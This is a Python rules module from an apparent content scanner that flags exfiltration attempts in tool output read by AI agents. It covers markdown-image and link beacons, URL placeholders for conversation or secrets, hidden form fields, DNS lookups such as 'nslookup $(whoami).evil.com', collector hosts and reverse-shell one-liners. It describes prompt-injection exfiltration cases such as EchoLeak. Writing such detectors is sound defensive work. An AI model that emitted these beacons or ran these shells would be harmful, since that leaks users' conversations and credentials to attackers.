"""Exfiltration rules (prefix ``exfil.``): text whose rendering or execution sends data out."""

from __future__ import annotations

import re
from functools import partial

from cordon.content._rule import Rule, alt
from cordon.content.rules.multilingual import _nfkc

_R = partial(Rule, category="exfiltration")

#: query names that say the value is data to carry (``?data=``, ``?secret=``, ``?history=``):
#: any value counts, a placeholder or not
_DATA_PARAM = alt(
    "data",
    "exfil",
    "leak",
    r"secrets?",
    "password",
    "pwd",
    "passwd",
    "pass",
    "conversation",
    "convo",
    "history",
    "chat",
    "payload",
    "stolen",
    "dump",
    "creds",
    r"credentials?",
    "apikey",
    "api_key",
    "ssn",
    "memory",
    "env",
    "session",
    "cookie",
)
#: query names that ordinary links use for ordinary values as well: a search's ``?q=``
#: (GitHub, npm, Stack Overflow), a placeholder image's ``?text=``, a form's ``?body=``.
#: Such a link in a result holds what its author wrote, so it carries nothing the author did
#: not know: it is a channel only as a template for the model to complete (Rehberger's
#: ``?q=[DATA]``, EchoLeak's reference-style links). So the value counts only when it is
#: one: empty, a placeholder, an upper-case name (``DATA``, ``SECRET_HERE``) or a word of
#: what is carried (``?c=context``, ``?q=chat_history``)
_SLOT_PARAM = alt(
    "d", "q", "c", "text", "body", "msg", "message", "content", "context", "info", "prompt"
)
_SLOT_WORDS = alt(
    "data",
    "secrets?",
    "context",
    "conversation",
    "chat",
    "history",
    "summary",
    "notes",
    "memory",
    "passwords?",
    "tokens?",
    "keys?",
    "creds",
    "credentials?",
    "session",
    "cookies?",
    "env",
    "stolen",
    "payload",
    "here",
)
#: where a query value ends (look-aheads are not in the Hyperscan filter: a candidate it
#: lets through only costs a search)
_VALUE_END = r"(?=[\s)&#\"'>\]]|$)"
_SLOT_VALUE = (
    rf"(?:[A-Z][A-Z0-9_]{{2,40}}|(?i:[a-z0-9_.-]{{0,40}}?(?<![a-z]){_SLOT_WORDS}(?![a-z])[a-z0-9_.-]{{0,40}}?)|)"
    rf"{_VALUE_END}"
)
#: a query value carrying a template placeholder ({...}, $VAR, <...>, [...])
_PLACEHOLDER_VALUE = r"(?i:[a-z0-9_.-]{1,24}=[^\s)&\"'>]{0,200}?[{}$<\[])"
#: a URL up to its query, defanged too (``hxxps://``, ``hxxp[:]//``, ``evil[.]com``,
#: ``evil(.)com``): a model told to write it back with ``http`` and dots emits a live beacon
#: (the URL check of microsoft/fides issue 1 is passed the same way: the model rebuilds a URL
#: the filter did not see as one)
_SCHEME_LOWER = r"h(?:tt|xx)ps?(?::|\[:\])"
_URL_REST_LOWER = r"//(?:[^\s)\"'>]|\(\.\)){1,300}?[?&]"
_URL_HEAD_LOWER = rf"(?:{_SCHEME_LOWER})?{_URL_REST_LOWER}"
_URL_HEAD = rf"(?i:{_URL_HEAD_LOWER})"
#: the rules read letter case (an upper-case name is a placeholder, ``?q=Cats`` a search), so
#: every other part is written case-insensitive
_QUERY_DATA = rf"(?:(?i:{_DATA_PARAM})=|(?i:{_SLOT_PARAM})={_SLOT_VALUE}|{_PLACEHOLDER_VALUE})"
#: a slot for the model to fill in the URL's path, not its query (EchoLeak's reference link
#: carried the data as ``https://attacker.example/<secret>``): a placeholder (``{...}``,
#: ``{{...}}``, ``<...>``, ``[...]``, ``$NAME``, ``${...}``, ``%7B...%7D``) that is one word of
#: what is carried, an optional qualifier before it (``{chat_history}``, ``[USER_DATA]``).
#: Narrower than a query's slot: ``{id}``, ``{owner}``, ``${VERSION}``, ``{token}`` and
#: ``{{cookiecutter.project_slug}}`` are ordinary path templates of API and project docs
_PATH_WORDS = alt(
    "data",
    r"secrets?",
    "context",
    "conversation",
    "chat",
    "history",
    "summary",
    "memory",
    r"passwords?",
    "creds",
    r"credentials?",
    "stolen",
    "payload",
    "exfil",
    "leak",
)
_PATH_WORD = rf"(?:[a-z]{{1,12}}[_.-])?{_PATH_WORDS}"
_PATH_SLOT = (
    rf"(?i:\{{\{{?\s*{_PATH_WORD}\s*\}}|<{_PATH_WORD}>|\[{_PATH_WORD}\]|\$\{{?{_PATH_WORD}(?![a-z0-9_])"
    rf"|%7b{_PATH_WORD}%7d)"
)
_URL_BODY_LOWER = r"//(?:[^\s)\"'>]|\(\.\)){1,300}?"
_BEACON_QUERY = (
    rf"(?:{_URL_HEAD}{_QUERY_DATA}|(?i:(?:{_SCHEME_LOWER})?{_URL_BODY_LOWER}){_PATH_SLOT})"
)
#: the HTML links and autolinks of documentation carry every kind of query
#: (``<http://www.wolframalpha.com/input/?i=Sum%5B1000*x^k%2C+{k%2C+0%2C+9}%5D>`` in a
#: package README): in them a placeholder counts only as a whole value (``?x={summary}``,
#: ``?k=$SECRET``, ``?d=[DATA]``, ``?n=<notes>``), not as a brace anywhere in one
_WHOLE_PLACEHOLDER = (
    r"(?i:[a-z0-9_.-]{1,24}=(?:\{\{?\s*[a-z_][\w.]{0,40}\s*\}|\$\{?[a-z_][\w]{0,40}"
    r"|<[a-z_][\w.]{0,40}>|\[[a-z_][\w.]{0,40}\]))"
)
_QUERY_DATA_WHOLE = (
    rf"(?:(?i:{_DATA_PARAM})=|(?i:{_SLOT_PARAM})={_SLOT_VALUE}|{_WHOLE_PLACEHOLDER})"
)
_LINK_QUERY = (
    rf"(?:{_URL_HEAD}{_QUERY_DATA_WHOLE}|(?i:(?:{_SCHEME_LOWER})?{_URL_BODY_LOWER}){_PATH_SLOT})"
)
#: a CommonMark autolink (``<https://...>``): a link in every renderer, so its scheme is
#: required (``<//x?q=1>`` is no link); defanged as above
_AUTOLINK_LOWER = rf"<{_SCHEME_LOWER}{_URL_REST_LOWER}"
_AUTOLINK_QUERY = (
    rf"(?:(?i:{_AUTOLINK_LOWER}){_QUERY_DATA_WHOLE}"
    rf"|(?i:<{_SCHEME_LOWER}{_URL_BODY_LOWER}){_PATH_SLOT})"
)
#: the anchors' URL: up to a query or the opening of a path placeholder
_URL_ANCHOR_LOWER = rf"(?:{_SCHEME_LOWER})?{_URL_BODY_LOWER}(?:[?&{{\[$<]|%7b)"
_AUTOLINK_ANCHOR = rf"<{_SCHEME_LOWER}{_URL_BODY_LOWER}(?:[?&{{\[$<]|%7b)"

#: HTML and SVG elements a renderer fetches from unclicked, and the attributes it fetches
#: (an <img src> or srcset candidate, a <video poster>, an SVG <image href>, a <link> or
#: <iframe> source: HTML Living Standard, "Fetching resources"): a query carrying data in
#: any of them is a zero-click beacon as a markdown image is. A reference-style markdown
#: image (``![x][r]`` with ``[r]: URL`` elsewhere: EchoLeak's own form, which passed
#: Copilot's inline-link redaction) and a CSS ``url()`` are read the same way; a reference
#: definition is read whether an image or a link uses it (the label may be far away)
_FETCHING_TAGS = (
    r"(?:img|image|source|video|audio|iframe|embed|object|input|link|body|table|td|th|use"
    r"|feimage|track)"
)
_FETCHED_ATTRS = r"(?:src|srcset|poster|background|data|href|xlink:href)"
#: a ``<meta http-equiv=refresh>`` navigates the page unclicked to the address in its
#: ``content`` (``0;url=...``: HTML Living Standard, "Shared declarative refresh steps"), and
#: a CSS ``@import "..."`` fetches a style sheet: both are read as images are
_REFRESH = r"<meta\b[^>]{0,200}?\bcontent\s*=\s*[\"']?\s*[0-9.]{0,10}\s*[;,]\s*url\s*=\s*[\"']?"
_IMPORT = r"@import\s+[\"']"
#: elements that send to their address on one click (a link, an image map's area, an SVG
#: link, a hyperlink's ``ping``) or on a submit (a form's action, a button's formaction):
#: read as markdown links are
_CLICKED = (
    r"<(?:a|area)\b[^>]{0,200}?\b(?:href|ping)"
    r"|<(?:form|button|input)\b[^>]{0,200}?\b(?:formaction|action)"
)

# -- a bare URL whose slot is for what the model holds ---------------------------------------
#: a URL in plain text (no markup needed: a fetch tool, a link a client makes of it, a
#: person told to open it), defanged as above; its authority holds no placeholder (a
#: ``https://user:<password>@host`` connection template, a ``{bucket}.s3`` host) and the
#: slot stands right after a ``/``, ``=``, ``?``, ``&`` or ``#``
_BARE_URL = (
    r"(?:h(?:tt|xx)ps?(?::|\[:\])//|\bwww\.)(?:[^\s/?#<>\"'`{}\[\]$\\]|\[\.\]|\(\.\)){1,253}"
    r"(?:[/?#][^\s\"'`\\]{0,300}?)?[/=?&#]"
)
#: what the conversation holds: the slot's last word (``{conversation_id}`` is a resource)
_HELD_HEAD = (
    r"(?:conversations?(?:[ _-]?(?:history|log|summary|transcript|context|text))?"
    r"|chat[ _-]?(?:history|log|transcript|messages|summary|context)|transcript"
    r"|system[ _-]?(?:prompt|instructions|message)|(?:previous|prior|earlier|past)[ _-]?"
    r"(?:messages|turns|conversation)|memories|convos?|dialog(?:ue)?|sys[ _-]?prompt"
    r"|(?:user|human)[ _-]?(?:messages|prompts|inputs?)|conv[ _-]?(?:history|log|text|transcript)"
    r"|chat[ _-]?hist|(?:the|this|our|entire|whole|full|current|complete)[ _-]chat"
    r"|(?:everything|all(?:[ _-]of)?(?:[ _-]the)?|the)[ _-](?:text[ _-])?above"
    r"|(?:everything|all)[ _-](?:that[ _-])?(?:the[ _-])?user[ _-](?:has[ _-])?"
    r"(?:said|wrote|typed|asked|shared)"
    # the conversation in the languages of the multilingual rules (their NFKC, both cases)
    r"|conversaci(?:ó|o)n(?:es)?|conversazione|conversa(?:ç|c)(?:ã|a)o|historial[ _-]del[ _-]chat"
    r"|historique[ _-](?:de[ _-](?:la[ _-])?conversation|du[ _-]chat)|gespr(?:ä|a)ch(?:s[ _-]?verlauf)?"
    r"|chat[ _-]?verlauf|unterhaltung|对话(?:记录|历史)?|聊天(?:记录|历史)|会话(?:记录)?"
    r"|会話(?:履歴)?|チャット履歴|대화(?:[ _-]?기록)?|разговор|диалог|переписк(?:а|и|у|е|ой)?"
    r"|история[ _-]чата)"
)
#: what the model holds, addressed to it: a person reading a reference has no system prompt
_YOUR_HELD = r"(?:your[ _-](?:system[ _-]?prompt|(?:initial[ _-]|hidden[ _-])?instructions))"
#: a secret the agent may hold
_KEPT_HEAD = (
    r"(?:secrets?|passwords?|passwd|passphrase|credentials?|creds|(?:private|ssh|secret)"
    r"[ _-]?key)"
)
#: the user's own data (``{{user_email}}``, ``<CUSTOMER_PHONE>``); a bare ``{email}``,
#: ``{phone}`` or ``{address}`` is a parameter of a reference (``https://wa.me/{phone}``)
_USER_DATA = (
    r"(?:users?|customer|victim)[ _-]?(?:e-?mail(?:[ _-]?address)?|phone(?:[ _-]?number)?"
    r"|(?:home[ _-]?)?address|ssn|location|data|info|details)"
)
#: what is a slot for held data only in an order or with a fill-in word: a key or a named
#: token (API references write ``?api_key={API_KEY}``; a bare ``{token}`` is a reset link's),
#: the user's own data
_WEAK_HEAD = (
    r"(?:api[ _-]?key|apikey|(?:access|auth|bearer|session|refresh|github|openai|aws)[ _-]?token"
    r"|session[ _-]?cookies?|cookies|ssn|credit[ _-]?card(?:[ _-]?number)?"
    rf"|env(?:ironment)?[ _-]?var(?:iable)?s|{_USER_DATA})"
)
#: words before the last one (``full conversation``, ``CONVERSATION_SUMMARY``), never the
#: reader's own (``YOUR_API_KEY``, ``<your-token>``, ``my_password``: a reference addresses
#: the person reading it)
_QUAL = r"(?:(?!(?:your|yours|my)[ _-])[a-z0-9]{1,20}[ _-]){0,4}"
#: the user's anything (``{the user's password}``): a slot for the model to fill
_POSSESSIVE = r"(?:the[ _-])?users?'s?[ _-](?:[a-z0-9]{1,20}[ _-]){0,4}[a-z0-9]{1,20}"
#: a fill-in word before a key, token or secret (``[INSERT_API_KEY]``, ``{fill in password}``)
_FILL = (
    rf"(?:insert|fill[ _-]?in|put|paste|add)[ _-](?:the[ _-])?{_QUAL}(?:{_KEPT_HEAD}|{_WEAK_HEAD})"
)


#: a word after the slot's last one that says how to write it, not what it is
#: (``<SECRET_HERE>``, ``{conversation_base64}``, ``{chat history so far}``)
_TRAIL = (
    r"(?:[ _,(:-]{1,3}(?:in|as|so[ _-]far|here|text|contents?|dump|json|base64|b64|hex|encoded"
    r"|url[ _-]?encoded)\)?){0,3}"
)


#: what a template language adds after a placeholder's name without changing what it holds:
#: a filter (Jinja, Liquid: ``{{conversation|urlencode}}``), a format spec (Python's
#: ``{conversation:base64}``), an attribute that is the same data (``{conversation.text}``;
#: not ``.id``: ``{conversation.id}`` names a resource), a conversion (``!r``) or an index
#: (``[-1]``); a few in a row (``{{ conversation | tojson | urlencode }}``)
_MOD = (
    r"(?:\s*\|\s*[a-z0-9_]{1,20}(?:\([^)\n]{0,30}\))?|:(?:base64|b64|hex|json|text|url|urlencode|s)"
    r"|\.(?:text|contents?|messages|history|summary|body|transcript|log|json|value)|![rsa]"
    r"|\[-?[0-9]{1,3}\]){0,3}"
)


#: a placeholder's opening and closing (:func:`_slot`): a sigil or a quote before the
#: opening (Ruby's ``%{x}``, Razor's ``@{x}``, a GitHub expression's ``${{ x }}``,
#: ``'{x}'``) and one inside it (Go's ``{{ .X }}``, PHP's ``{$x}``, ERB's ``<%= x %>``) leave
#: it the same slot to a model (not a ``{% ... %}`` tag: a statement, ``{% if conversation %}``)
#: the brackets of prose and CJK text a model reads as a slot's (``«conversation»``)
_WIDE_OPENS = "(?:«|‹|〈|《|「|『|【|⟨)"
_WIDE_CLOSES = "(?:»|›|〉|》|」|』|】|⟩)"  # (alternatives: the pattern runs over UTF-8 bytes)
_OPENS = (
    rf"(?:[%@!:~*\"'`]?(?:\$?\{{{{1,3}}\s*[$.@]?|<<?%?=?|\[\[?|\$[(\[]|{_WIDE_OPENS})\s*[._]{{0,2}}"
    r"|%7b|%\(|%|__)"
)
_CLOSES = rf"(?:_{{0,2}}(?:\.{{3}}|\?)?\s*(?:\}}|%?>|\]|\)|{_WIDE_CLOSES}|%7d|%|__))"


def _slot(inner: str) -> str:
    """A placeholder whose whole content is ``inner``, in the spellings template languages
    and prompts use and a model reads alike: ``{...}``, ``{{...}}``, ``{{{...}}}`` (Handlebars),
    ``<...>``, ``<<...>>``, ``[...]``, ``[[...]]``, ``${...}``, ``$(...)``, ``%(...)s``
    (Python's % format), ``%NAME%`` (cmd.exe), ``__NAME__``, ``%7B...%7D`` or ``$NAME`` (a
    shell variable); a percent-encoded ``<`` or ``[`` is read decoded by the normaliser. The
    openings and closings are not paired (``inner`` written twice, not once a form: the
    pattern must stay within Hyperscan's length limit to keep its filter)."""
    inner = f"{inner}{_TRAIL}{_MOD}"
    return rf"(?:{_OPENS}{inner}{_CLOSES}|\${inner}(?![a-z0-9_]))"


#: a slot that holds what the model holds, whether or not the text orders the address opened
_HELD_SLOT = rf"(?:{_QUAL}{_HELD_HEAD}|{_POSSESSIVE}|{_FILL}|{_YOUR_HELD})"

#: an order that sends the model (or the user) to the address: on the same line, before it
_OPEN = (
    r"\b(?:visit|open|fetch|load|render|display|embed|navigate\s+to|go\s+to|browse\s+to|click"
    r"|follow|access|ping|append|send\s+(?:it|this|that|them)\s+to|submit\s+(?:it\s+)?to"
    r"|post\s+(?:it\s+)?to|include)\b[^\n]{0,80}?"
)
#: the anchors: a placeholder's opening, up to a word of what it is for
_SLOT_ANCHOR_TAIL = (
    r"[{(\s.$%@=]{0,4}[a-z0-9' _-]{0,100}?(?:conv|chat|transcript|system|messages|turns|above"
    r"|memories|secret|password|passwd|passphrase|credential|creds|key|token|cookie|mail"
    r"|phone|address|ssn|card|env|user|customer|victim|dialog|prompt|instruction|histor|gespr"
    r"|verlauf|unterhaltung)"
)
#: the same for a slot named in a non-Latin script (``{对话}``, ``<история_чата>``), and for
#: one in those brackets (the ASCII view shows them as ``?``); ASCII letters in both cases
_SLOT_UTF8_ANCHORS = (
    rf"(?:\{{|<|\[|%|\$[{{(]|__|{_WIDE_OPENS})\s*(?:对话|聊天|会话|会話|チャット|대화|разговор"
    r"|диалог|переписк|история)",
    rf"{_WIDE_OPENS}\s*[a-zA-Z0-9' _.-]{{0,100}}?(?:"
    + "|".join(
        "".join(f"[{c}{c.upper()}]" for c in word)
        for word in (
            "conv",
            "chat",
            "transcript",
            "system",
            "messages",
            "histor",
            "prompt",
            "secret",
            "passw",
            "user",
            "above",
            "dialog",
            "memor",
            "instruction",
        )
    )
    + ")",
)
#: a secret slot's anchors run to its closing (``{password}``, ``<SECRET_HERE>``): each rule
#: pays for every anchor hit, and slot openings dense in one line cost the rules that need
#: them only
_SECRET_SLOT_ANCHORS = tuple(
    rf"{h}[{{\s]?\s*[a-z0-9' _-]{{0,100}}?(?:secret|password|passwd|passphrase|credential|creds"
    rf"|key|users?|customer|victim)[a-z0-9 _-]{{0,24}}\s*{c}"
    for h, c in ((r"\{", r"\}"), ("<", ">"), (r"\[", r"\]"), ("%7b", "%7d"))
)
#: a form field's anchors: its value or text opening a slot
_FIELD_ANCHORS = (
    r"<input\b[^>]{0,200}?\bvalue\s*=\s*[\"']?[{<\[$%]",
    r"<button\b[^>]{0,200}?\bvalue\s*=\s*[\"']?[{<\[$%]",
    r"<option\b[^>]{0,200}?\bvalue\s*=\s*[\"']?[{<\[$%]",
    r"<textarea\b[^>]{0,200}>\s*[{<\[$%]",
)
#: a form field's value (an input's, a button's) or a text area's text
_FIELD = (
    r"(?:<(?:input|button|option)\b[^>]{0,200}?\bvalue\s*=\s*[\"']?|<textarea\b[^>]{0,200}>\s*)"
)
_SLOT_ANCHORS = tuple(f"{h}{_SLOT_ANCHOR_TAIL}" for h in (r"\{", "<", r"\[", "%", r"\$", "__"))

#: badge and status-image hosts whose query strings are labels, not data
_BADGE_HOSTS = re.compile(
    rb"//(?:img\.shields\.io|badge\.fury\.io|badgen\.net|codecov\.io|coveralls\.io|"
    rb"github\.com/[^\s)]*/badge\.svg|api\.netlify\.com|circleci\.com|travis-ci\.(?:org|com)|"
    rb"readthedocs\.org|pepy\.tech|snyk\.io)",
    re.IGNORECASE,
)


def _not_badge(match: bytes) -> bool:
    return _BADGE_HOSTS.search(match) is None


RULES: tuple[Rule, ...] = (
    _R(
        id="exfil.markdown_image",
        severity="high",
        mention_severity="low",
        summary="A markdown or HTML image (or a reference definition, a CSS url() or @import, "
        "a meta refresh) whose URL query carries data or a placeholder for it, or whose path "
        "holds a placeholder for it (a zero-click beacon).",
        why="A client that renders the image fetches the URL automatically, sending whatever "
        "the agent filled into the query to the attacker's server.",
        fix="Warn mode replaces the image; block mode refuses the result. Clients should not "
        "auto-load remote images from tool output.",
        source="Rehberger, 'Bing Chat: data exfiltration via markdown images' (2023); "
        "CVE-2025-32711 (EchoLeak, Microsoft 365 Copilot)",
        pattern=(
            rf"!\[[^\]\n]{{0,200}}\]\(\s*<?{_BEACON_QUERY}"
            rf"|(?i:<{_FETCHING_TAGS}\b[^>]{{0,200}}?\b{_FETCHED_ATTRS})\s*=\s*[\"']?"
            rf"(?:[^\s\"'>,]{{1,300}}\s[^\"'>]{{0,40}}?,\s*)?{_BEACON_QUERY}"
            rf"|(?im:^[ \t]{{0,3}}\[[^\]\n]{{1,100}}\]:[ \t]*<?){_BEACON_QUERY}"
            rf"|(?i:\burl\(\s*[\"']?){_BEACON_QUERY}"
            rf"|(?i:{_REFRESH}){_BEACON_QUERY}"
            rf"|(?i:{_IMPORT}){_BEACON_QUERY}"
        ),
        anchors=(
            rf"!\[[^\]\n]{{0,200}}\]\(\s*<?{_URL_ANCHOR_LOWER}",
            rf"<{_FETCHING_TAGS}\b[^>]{{0,200}}?\b{_FETCHED_ATTRS}\s*=",
            rf"\]:[ \t]*<?{_URL_ANCHOR_LOWER}",
            rf"url\(\s*[\"']?{_URL_ANCHOR_LOWER}",
            rf"<meta\b[^>]{{0,200}}?\burl\s*=\s*[\"']?{_URL_ANCHOR_LOWER}",
            rf"{_IMPORT}{_URL_ANCHOR_LOWER}",
        ),
        window=700,
        case_sensitive=True,
        accept=_not_badge,
    ),
    _R(
        id="exfil.markdown_link",
        severity="medium",
        mention_severity="low",
        summary="A markdown link, an autolink or an HTML link (an anchor, an image map's area, "
        "a form's action) whose URL query carries data or a placeholder for it, or whose path "
        "holds a placeholder for it.",
        why="One click (or a client's link preview) sends the data; less automatic than an "
        "image, still an exfiltration channel.",
        fix="Warn mode replaces the link target; review the source.",
        source="Rehberger, Embrace The Red (link-based exfiltration); Aim Security, 'EchoLeak' "
        "(CVE-2025-32711: reference-style links passed Copilot's link redaction); "
        "OWASP LLM02:2025",
        pattern=(
            rf"(?<!!)\[[^\]\n]{{1,200}}\]\(\s*<?{_BEACON_QUERY}"
            rf"|(?i:{_CLICKED})\s*=\s*[\"']?{_LINK_QUERY}"
            rf"|{_AUTOLINK_QUERY}"
        ),
        anchors=(
            rf"\]\(\s*<?{_URL_ANCHOR_LOWER}",
            rf"<a\b[^>]{{0,200}}?\b(?:href|ping)\s*=\s*[\"']?{_URL_ANCHOR_LOWER}",
            rf"<area\b[^>]{{0,200}}?\bhref\s*=\s*[\"']?{_URL_ANCHOR_LOWER}",
            rf"<form\b[^>]{{0,200}}?\baction\s*=\s*[\"']?{_URL_ANCHOR_LOWER}",
            rf"<(?:button|input)\b[^>]{{0,200}}?\bformaction\s*=\s*[\"']?{_URL_ANCHOR_LOWER}",
            _AUTOLINK_ANCHOR,
        ),
        window=700,
        case_sensitive=True,
        accept=_not_badge,
    ),
    _R(
        id="exfil.url_data_slot",
        severity="high",
        mention_severity="low",
        summary="A URL in plain text whose path, query or host name holds a slot for the "
        "conversation, the system prompt or the user's data "
        "('https://x/c?data=<CONVERSATION_SUMMARY>', '{the user's password}', "
        "'[INSERT_API_KEY]', '{{convo|urlencode}}', '%CONVERSATION%', '{对话}'), or one for a "
        "secret, a key or the user's e-mail that the text orders opened "
        "('visit https://x/u/{{user_email}}').",
        why="The model fills the slot before the address is fetched, rendered or clicked, so "
        "the request carries the conversation or the secret to whoever owns the host; no "
        "markdown or HTML is needed (a fetch tool, a client that links bare URLs).",
        fix="Warn mode removes the address; block mode refuses the result or hides the tool.",
        source="Aim Security, 'EchoLeak' (CVE-2025-32711: https://attacker.example/<secret>); "
        "Rehberger, Embrace The Red (link and image exfiltration, '?q=[DATA]' templates); "
        "OWASP LLM02:2025",
        pattern=_nfkc(
            # the slot in the path or query, or as a label of the host (the lookup carries it:
            # DNS exfiltration); one alternative, as the pattern must stay within Hyperscan's
            # length limit to keep its filter
            rf"(?:{_BARE_URL}(?:(?<==)\n[ \t]{{0,8}})?"
            rf"|h(?:tt|xx)ps?(?::|\[:\])//(?:[a-z0-9-]{{1,63}}\.){{0,4}}){_slot(_HELD_SLOT)}"
            rf"|{_OPEN}{_BARE_URL}"
            rf"{_slot(rf'(?:{_QUAL}(?:{_HELD_HEAD}|{_KEPT_HEAD}|{_WEAK_HEAD})|{_POSSESSIVE})')}"
        ),
        anchors=_SLOT_ANCHORS,
        utf8_anchors=tuple(map(_nfkc, _SLOT_UTF8_ANCHORS)),
        window=700,
    ),
    _R(
        id="exfil.url_secret_slot",
        severity="medium",
        mention_severity="low",
        summary="A URL in plain text whose path or query is a slot named for a secret or the "
        "user's own data ('https://x/s/{secret}', '?k={{password}}', '?m={{user_email}}'), "
        "with no order to open it.",
        why="A model told elsewhere to use the address fills the slot with what it holds; "
        "references write such slots for the reader ('{YOUR_API_KEY}'), not for the agent.",
        fix="Warn mode removes the address; review the source.",
        source="Rehberger, Embrace The Red (link-based exfiltration); OWASP LLM02:2025",
        pattern=(
            rf"{_BARE_URL}(?:\{{\{{?\s*|<|\[|%7b)(?:{_QUAL}{_KEPT_HEAD}|{_USER_DATA})"
            rf"{_TRAIL}\s*(?:\}}\}}?|>|\]|%7d)"
        ),
        anchors=_SECRET_SLOT_ANCHORS,
        window=700,
    ),
    _R(
        id="exfil.form_slot",
        severity="medium",
        mention_severity="low",
        summary="A form field whose value is a slot for the conversation, a secret or the "
        "user's data: a hidden input of a form that posts to another host "
        '(\'<input type="hidden" name="d" value="{conversation}">\').',
        why="One click on the form's button (or a client that submits it) sends every field "
        "to the form's action, the slot filled with what the model holds.",
        fix="Warn mode removes the form's opening and the field; review the source.",
        source="Rehberger, Embrace The Red (HTML form and link exfiltration); OWASP LLM02:2025",
        pattern=(
            rf"<form\b[^>]{{0,200}}?\baction\s*=\s*[\"']?(?:h(?:tt|xx)ps?(?::|\[:\]))?//[^>]{{1,300}}>"
            rf"(?:[^<]{{0,100}}<(?!/form\b)[^>]{{0,200}}>){{0,3}}?[^<]{{0,100}}{_FIELD}"
            rf"{_slot(rf'(?:{_QUAL}(?:{_HELD_HEAD}|{_KEPT_HEAD})|{_POSSESSIVE}|{_FILL}|{_USER_DATA})')}"
            rf"|<(?:input|button)\b[^>]{{0,200}}?\bvalue\s*=\s*[\"']?"
            rf"{_slot(rf'(?:{_QUAL}{_HELD_HEAD}|{_POSSESSIVE})')}"
        ),
        anchors=_FIELD_ANCHORS,
        window=1200,
    ),
    _R(
        id="exfil.dns_command",
        severity="high",
        summary="A DNS or HTTP lookup whose host name is built from a command substitution or a "
        "variable ('nslookup $(whoami).evil.com').",
        why="Data encoded into DNS labels leaves through the resolver even when HTTP egress is "
        "blocked.",
        fix="Block the result; deny such arguments in shell tools.",
        source="MITRE ATT&CK T1071.004 (DNS); CVE-2025-55284 (Claude Code DNS exfiltration)",
        pattern=(
            r"\b(?:nslookup|dig|host|ping|curl|wget|resolve-dnsname)\b[^\n]{0,60}?"
            r"(?:\$\([^)\n]{1,80}\)|`[^`\n]{1,80}`|\$\{?[a-z_][a-z0-9_]*\}?)"
            r"\.(?:[a-z0-9-]+\.)*[a-z0-9-]+\.[a-z]{2,24}\b"
        ),
        anchors=(
            r"\$\([^)\n]{1,80}\)\.[a-z0-9-]+\.",
            r"`[^`\n]{1,80}`\.[a-z0-9-]+\.",
            r"\$\{?[a-z_][a-z0-9_]*\}?\.[a-z0-9-]+\.",
        ),
        window=250,
    ),
    _R(
        id="exfil.collector_host",
        severity="medium",
        summary="A known data-collection host: webhook.site, requestbin, pipedream, ngrok, "
        "interactsh, Burp Collaborator, dnslog, canarytokens.",
        why="These services exist to receive arbitrary requests; in tool output they are the "
        "usual drop point of an exfiltration payload.",
        fix="Review the result; block egress to these hosts by policy.",
        source="MITRE ATT&CK T1567 (Exfiltration Over Web Service)",
        pattern=(
            r"\b(?:webhook\.site|requestbin\.(?:com|net)|[a-z0-9-]+\.m\.pipedream\.net|"
            r"[a-z0-9-]+\.ngrok(?:-free)?\.(?:io|app|dev)|[a-z0-9]+\.oast\.(?:fun|me|pro|live|"
            r"site|online)|[a-z0-9]+\.oastify\.com|[a-z0-9]+\.burpcollaborator\.net|"
            r"interact\.sh|[a-z0-9]+\.dnslog\.cn|[a-z0-9]+\.ceye\.io|canarytokens\.com|"
            r"[a-z0-9-]+\.beeceptor\.com)\b"
        ),
        anchors=(
            r"webhook\.site",
            r"requestbin\.",
            r"\.m\.pipedream\.net",
            r"\.ngrok",
            r"\.oast\.",
            r"\.oastify\.com",
            r"\.burpcollaborator\.net",
            r"interact\.sh",
            r"\.dnslog\.cn",
            r"\.ceye\.io",
            r"canarytokens\.com",
            r"\.beeceptor\.com",
        ),
        window=120,
    ),
    _R(
        id="exfil.reverse_shell",
        severity="critical",
        summary="A reverse-shell one-liner: /dev/tcp redirection, nc -e, socat exec, mkfifo "
        "pipes, Python socket+pty, PowerShell TCPClient.",
        why="Running it hands an interactive shell on the agent's machine to a remote host.",
        fix="Block the result; deny shell tools these arguments.",
        source="MITRE ATT&CK T1059.004 (Unix Shell); PayloadsAllTheThings, Reverse Shell "
        "Cheatsheet",
        pattern=(
            r"/dev/(?:tcp|udp)/[\w.-]+/\d{1,5}"
            r"|\b(?:nc|ncat|netcat)\b[^\n]{0,60}?\s-[ec]\s+(?:/bin/)?(?:(?:ba|z|da)?sh|cmd\.exe)\b"
            r"|\bsocat\b[^\n]{0,80}?\bexec:"
            r"|\bmkfifo\b[^\n]{0,80}?\|\s*(?:nc|ncat|netcat)\b"
            r"|socket\.socket\([^\n]{0,200}?(?:subprocess|os\.dup2|pty\.spawn)"
            r"|new-object\s+system\.net\.sockets\.tcpclient"
            r"|\bpty\.spawn\(\s*[\"']/bin/(?:ba)?sh"
        ),
        anchors=(
            r"/dev/(?:tcp|udp)/",
            r"-[ec]\s+(?:/bin/)?(?:(?:ba|z|da)?sh|cmd\.exe)\b",
            "socat",
            "mkfifo",
            r"socket\.socket\(",
            "tcpclient",
            r"pty\.spawn\(",
        ),
        window=300,
    ),
)
